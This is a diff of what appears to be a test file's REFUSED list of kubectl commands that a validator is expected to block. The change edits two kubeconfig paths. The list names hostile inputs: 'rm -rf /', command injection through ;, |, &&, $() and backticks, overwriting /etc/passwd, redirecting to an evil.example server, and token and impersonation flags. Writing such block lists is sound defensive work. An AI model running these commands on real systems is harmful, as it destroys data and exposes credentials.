@@ -255,7 +255,7 @@ REFUSED = [
     "rm -rf /", "kubectl get pods; rm -rf /", "kubectl get pods | sh", "kubectl get pods && reboot",
     "kubectl get pods > /etc/passwd", "kubectl delete pod $(cat /etc/passwd)", "kubectl delete pod `id`",
     "kubectl delete pod $HOME", "kubectl get pods &", "kubectl get pods #; id\x00", "kubectl 'unfinished",
-    "kubectl --kubeconfig /root/.kube/config get pods", "kubectl get pods --kubeconfig=/root/.kube/config",
+    "kubectl --kubeconfig /home/ann/.kube/config get pods", "kubectl get pods --kubeconfig=/home/ann/.kube/config",
     "kubectl get pods -s https://evil.example", "kubectl get pods --server=https://evil.example",
     "kubectl get pods --token=abc", "kubectl get pods --as=system:admin", "kubectl get pods --context prod",
     "kubectl get pods -A", "kubectl get pods --all-namespaces", "kubectl get pods -n kube-system",
